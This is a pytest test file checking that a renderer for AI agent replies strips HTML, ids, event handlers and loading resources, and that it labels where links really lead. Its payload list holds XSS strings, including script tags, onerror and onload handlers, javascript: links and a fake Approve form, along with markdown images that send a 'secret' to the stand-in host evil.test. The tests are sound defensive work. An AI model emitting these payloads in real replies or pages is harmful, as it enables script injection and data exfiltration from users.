"""What an agent wrote brings nothing of its own into the page (S11): no HTML, no id, nothing that loads, links that say where they lead."""

import re
import time

import pytest

from shared.markup import render_reply

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=https://evil.test/x onerror=alert(1)>",
    '<form action="https://evil.test"><button class="btn go" data-act="approve">Approve</button></form>',
    "<details open><summary>x</summary>y</details>",
    "<style>*{display:none}</style>",
    "![](https://evil.test/p.png?q=secret)",
    "![a][r]\n\n[r]: https://evil.test/p.png",
    "[x](javascript:alert(1)) [x](JaVaScRiPt&#58;alert(1)) [x](data:text/html,x) [x]( \tvbscript:x)",
    '[x](https://evil.test "a\\" onmouseover=alert(1) x=")',
    "a <a href='https://evil.test' class=btn id=main>b</a> c",
    "```html\n<script>x</script>\n```",
    "# one {#main}\n\n[^1]\n\n[^1]: <svg onload=x>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_reply_runs_or_loads(text: str) -> None:
    html = render_reply(text, "message 1")
    tags = {found[1] for found in re.finditer(r"<([a-z0-9]+)", html)}
    assert tags <= {"p", "a", "b", "em", "strong", "pre", "code", "span", "small", "ol", "li", "hr", "sup", "div"}
    assert not re.search(r'<[^>]* (?:id|on\w+|src|srcset|style|data-\w+|hx-\w+)="', html), html
    for address in re.findall(r'href="([^"]*)"', html):
        assert address.startswith(("https://", "http://", "mailto:")), html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[good.example](https://evil.test/x)", "good.example</a> <small class=\"mute\">(evil.test)</small>"),
        ("[https://good.example](https://good.example@evil.test/)", "(evil.test)</small>"),
        ("[x](https://ü.example)", "(xn--tda.example)</small>"),
        ("<https://good.example/a>", 'href="https://good.example/a">https://good.example/a</a></p>'),
    ],
)  # fmt: skip
def test_a_link_says_where_it_leads(text: str, shown: str) -> None:
    assert shown in render_reply(text)


def test_headings_are_bold_lines_and_what_scrolls_has_a_name_of_its_own() -> None:
    html = render_reply("# Plan *now*\n\n|a|\n|-|\n|1|\n\n```\nx\n```", "message 7")
    assert "<p><strong>Plan <em>now</em></strong></p>" in html and "<h" not in html
    assert re.findall(r'aria-label="([^"]*)"', html) == ["Table 1, message 7", "Code 1, message 7"]


def test_a_very_long_text_is_shown_as_it_is_written() -> None:
    assert render_reply("**x** <b>" * 20_000).startswith('<p class="plain">**x** &lt;b&gt;')


@pytest.mark.parametrize("text", ["![](" * 16_000, "[" * 60_000])
def test_a_text_that_would_keep_the_page_waiting_is_shown_as_it_is_written(text: str) -> None:
    begun = time.process_time()
    assert render_reply(text).startswith('<p class="plain">')
    assert time.process_time() - begun < 0.5
